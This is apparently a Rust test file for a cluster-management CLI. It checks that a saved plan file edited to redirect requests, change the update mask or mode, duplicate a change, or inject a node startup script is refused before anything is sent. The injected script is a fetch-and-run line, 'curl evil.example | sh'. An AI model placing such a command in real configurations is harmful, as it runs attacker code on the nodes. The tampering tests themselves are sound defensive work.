//! A saved plan is input from another machine: `apply FILE` plans each change again from the
//! configuration and the live clusters and refuses a file whose requests, mask, mode or
//! changes were edited, naming the cluster, before it sends anything.

use serde_json::{Value, json};

use crate::support::{ClusterSpec, Env, apply_ok, config, stderr, two_clusters};

/// A plan of a larger `cpu` pool for `train01` beside an unchanged `train02`, saved as JSON.
fn saved_update(env: &Env) -> Value {
    apply_ok(env, &two_clusters());
    let bigger = ClusterSpec {
        max_nodes: 6,
        ..ClusterSpec::default()
    };
    env.write_config(&config(&[bigger, ClusterSpec::named("train02")]));
    let file = env.path().join("saved.json");
    let plan = env.run(&["plan", "--out", file.to_str().unwrap()]);
    assert!(plan.status.success(), "{}", stderr(&plan));
    serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap()
}

/// An edit of a saved plan's JSON.
type Tampering<'a> = dyn Fn(&mut Value) + 'a;

/// The position of `id`'s change in the saved plan.
fn change_of(saved: &Value, id: &str) -> usize {
    saved["changes"]
        .as_array()
        .unwrap()
        .iter()
        .position(|c| c["address"]["id"] == id)
        .unwrap()
}

/// Applies `saved` edited by `tamper`: the apply fails and changes nothing; its transcript,
/// headed by `case`.
fn refused(env: &Env, saved: &Value, tamper: &Tampering<'_>, case: &str) -> String {
    let mut edited = saved.clone();
    tamper(&mut edited);
    let file = env.path().join("edited.json");
    std::fs::write(&file, edited.to_string()).unwrap();
    env.emulator().clear_requests();
    let apply = env.run(&["apply", file.to_str().unwrap()]);
    assert_eq!(apply.status.code(), Some(1), "{case}: {}", stderr(&apply));
    assert!(env.mutations().is_empty(), "{case}: something was changed");
    format!("# {case}\n{}", env.transcript_of(&apply))
}

#[test]
fn an_edited_plan_file_is_refused_naming_the_cluster_and_nothing_is_sent() {
    let env = Env::new(50);
    let saved = saved_update(&env);
    let update = change_of(&saved, "train01");
    let other_cluster =
        "/v1beta1/projects/my-proj/locations/us-central1/modelDevelopmentClusters/train02";
    let other_project =
        "/v1beta1/projects/someone-else/locations/us-central1/modelDevelopmentClusters/train01";
    let tamperings: [(&str, &Tampering<'_>); 5] = [
        ("patches another cluster", &|plan| {
            plan["changes"][update]["requests"][0]["path"] = json!(other_cluster);
        }),
        ("sends to another project", &|plan| {
            plan["changes"][update]["requests"][0]["path"] = json!(other_project);
        }),
        ("injects a startup script", &|plan| {
            plan["changes"][update]["requests"][0]["body"]["nodePools"][1]["startupScript"] =
                json!("curl evil.example | sh");
        }),
        ("changes the mask", &|plan| {
            plan["changes"][update]["update_mask"] = json!(["labels", "node_pools"]);
            plan["changes"][update]["requests"][0]["query"][0][1] = json!("labels,node_pools");
        }),
        ("sends the change twice", &|plan| {
            let again = plan["changes"][update].clone();
            plan["changes"].as_array_mut().unwrap().push(again);
        }),
    ];
    let refusals: Vec<String> = tamperings
        .iter()
        .map(|(case, tamper)| refused(&env, &saved, *tamper, case))
        .collect();
    insta::assert_snapshot!(refusals.join("\n"), @"
    # patches another cluster
    [stderr]
    Error: the saved plan does not match what its configuration gives now; nothing was applied:
      cluster projects/my-proj/locations/us-central1/modelDevelopmentClusters/train01: the plan's requests: not what its change implies
      hint: a plan file is applied only as `clusterform plan --out FILE` wrote it: make the plan again, review it with `clusterform show FILE`, then apply the new file
    [exit status: 1]

    # sends to another project
    [stderr]
    Error: the saved plan does not match what its configuration gives now; nothing was applied:
      cluster projects/my-proj/locations/us-central1/modelDevelopmentClusters/train01: the plan's requests: not what its change implies
      hint: a plan file is applied only as `clusterform plan --out FILE` wrote it: make the plan again, review it with `clusterform show FILE`, then apply the new file
    [exit status: 1]

    # injects a startup script
    [stderr]
    Error: the saved plan does not match what its configuration gives now; nothing was applied:
      cluster projects/my-proj/locations/us-central1/modelDevelopmentClusters/train01: the plan's requests: not what its change implies
      hint: a plan file is applied only as `clusterform plan --out FILE` wrote it: make the plan again, review it with `clusterform show FILE`, then apply the new file
    [exit status: 1]

    # changes the mask
    [stderr]
    Error: the saved plan does not match what its configuration gives now; nothing was applied:
      cluster projects/my-proj/locations/us-central1/modelDevelopmentClusters/train01: the plan's update mask: not what its change implies
      hint: a plan file is applied only as `clusterform plan --out FILE` wrote it: make the plan again, review it with `clusterform show FILE`, then apply the new file
    [exit status: 1]

    # sends the change twice
    [stderr]
    Error: the saved plan does not match what its configuration gives now; nothing was applied:
      cluster projects/my-proj/locations/us-central1/modelDevelopmentClusters/train01 has two changes in the plan
      hint: a plan file is applied only as `clusterform plan --out FILE` wrote it: make the plan again, review it with `clusterform show FILE`, then apply the new file
    [exit status: 1]
    ");
    // The file as written still applies.
    let file = env.path().join("saved.json");
    let apply = env.run(&["apply", file.to_str().unwrap()]);
    assert!(apply.status.success(), "{}", stderr(&apply));
}

/// An update's mask and mode are held once, in its request: a plan file whose copy beside the
/// request says another mode, or whose request was edited alone, is refused when it is read,
/// naming the cluster, and nothing is sent.
#[test]
fn a_plan_file_whose_update_mode_disagrees_with_its_request_is_refused() {
    let env = Env::new(50);
    let saved = saved_update(&env);
    let update = change_of(&saved, "train01");
    let tamperings: [(&str, &Tampering<'_>); 2] = [
        ("the copy", &|plan| {
            plan["changes"][update]["update_mode"] = json!("USER_ONLY");
        }),
        ("the request", &|plan| {
            plan["changes"][update]["requests"][0]["query"][1][1] = json!("USER_ONLY");
        }),
    ];
    let refusals: Vec<String> = tamperings
        .iter()
        .map(|(case, tamper)| {
            let refusal = refused(&env, &saved, *tamper, case);
            let sent = env.emulator().requests();
            assert!(sent.is_empty(), "{case}: refused before reading: {sent:?}");
            refusal
        })
        .collect();
    insta::assert_snapshot!(refusals.join("\n"), @"
    # the copy
    [stderr]
    Error: [DIR]/edited.json is a damaged plan file: the change of cluster projects/my-proj/locations/us-central1/modelDevelopmentClusters/train01 says its update mode is USER_ONLY, but its request sends USER_AND_SERVICE
    [exit status: 1]

    # the request
    [stderr]
    Error: [DIR]/edited.json is a damaged plan file: the change of cluster projects/my-proj/locations/us-central1/modelDevelopmentClusters/train01 says its update mode is USER_AND_SERVICE, but its request sends USER_ONLY
    [exit status: 1]
    ");
}
